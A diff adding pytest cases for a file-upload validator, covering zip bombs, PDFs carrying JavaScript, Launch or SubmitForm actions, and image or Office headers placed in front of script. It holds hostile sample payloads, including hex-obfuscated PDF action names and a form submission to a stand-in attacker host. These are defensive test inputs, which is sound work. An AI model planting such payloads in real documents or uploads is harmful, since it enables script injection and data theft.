@@ -1,7 +1,9 @@
-"""The zip-bomb check shared by every upload point."""
+"""The checks every upload point shares: zip bombs, and the structure behind the first bytes."""
 
 import io
 import zipfile
+
+import pytest
 
 from core import uploads
 
@@ -37,3 +39,83 @@ def test_too_many_members_or_too_much_in_all_is_refused(monkeypatch):
 
 def test_something_that_is_not_a_zip_is_not_safe():
     assert not uploads.zip_is_safe(io.BytesIO(b"%PDF-1.4 bukan zip"))
+
+
+# --- Structure checks (issue 13): the first bytes are a claim, the structure is the proof ---------------
+
+REAL_PDF = (
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
+)
+
+
+def _pdf(entry: bytes) -> io.BytesIO:
+    return io.BytesIO(REAL_PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + entry))
+
+
+def _image(fmt: str, size=(40, 30)) -> io.BytesIO:
+    from PIL import Image
+
+    buffer = io.BytesIO()
+    Image.new("RGB", size, "white").save(buffer, fmt)
+    buffer.seek(0)
+    return buffer
+
+
+def test_a_real_pdf_passes_and_one_that_only_starts_like_a_pdf_does_not():
+    assert uploads.pdf_is_safe(io.BytesIO(REAL_PDF))
+    assert not uploads.pdf_is_safe(io.BytesIO(b"%PDF-1.7\n<html><script>alert(1)</script></html>"))
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
+        b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>",
+        b"/OpenAction<</S/Launch/F(cmd.exe)>>",
+        b"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(1)>>]>>>>",
+        b"/Names<</EmbeddedFiles<</Names[(a.exe)<<>>]>>>>",
+        b"/AcroForm<</Fields[<</A<</S/SubmitForm/F(http://evil.example/)>>>>]>>",
+    ],
+    ids=["open-js", "hidden-name-js", "launch", "names-js", "embedded-file", "submit-form"],
+)
+def test_a_pdf_that_runs_launches_or_carries_something_is_refused(entry):
+    assert not uploads.pdf_is_safe(_pdf(entry))
+
+
+@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP"])
+def test_a_real_image_decodes(fmt):
+    assert uploads.image_is_sound(_image(fmt))
+
+
+def test_an_image_header_before_script_or_a_pixel_bomb_is_refused(monkeypatch):
+    assert not uploads.image_is_sound(io.BytesIO(b"GIF89a<script>alert(1)</script>"))
+    assert not uploads.image_is_sound(io.BytesIO(bytes.fromhex("89504E470D0A1A0A0000000D49484452") + b"\0" * 32))
+    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 40 * 30 - 1)
+    assert not uploads.image_is_sound(_image("PNG"))
+
+
+def test_a_real_workbook_opens_and_a_zip_of_content_types_and_html_does_not():
+    from openpyxl import Workbook
+
+    buffer = io.BytesIO()
+    Workbook().save(buffer)
+    assert uploads.ooxml_is_sound(buffer, "xlsx")
+    assert not uploads.ooxml_is_sound(buffer, "docx")  # a workbook is not a Word document
+    fake = io.BytesIO()
+    with zipfile.ZipFile(fake, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/workbook.xml", "<html><body><script>alert(1)</script></body></html>")
+    assert not uploads.ooxml_is_sound(fake, "xlsx")
+
+
+def test_an_ole_header_before_html_is_not_a_legacy_office_file():
+    header = bytearray(512)
+    header[:8] = uploads.OLE_MAGIC
+    header[28:30], header[30:32], header[32:34] = b"\xfe\xff", (9).to_bytes(2, "little"), (6).to_bytes(2, "little")
+    assert uploads.ole_is_sound(io.BytesIO(bytes(header) + b"\0" * 1024))
+    assert not uploads.ole_is_sound(io.BytesIO(uploads.OLE_MAGIC + b"<html><script>alert(1)</script></html>"))
+
+
+def test_an_extension_without_a_structure_check_is_refused():
+    assert not uploads.content_is_sound(io.BytesIO(REAL_PDF), "exe")
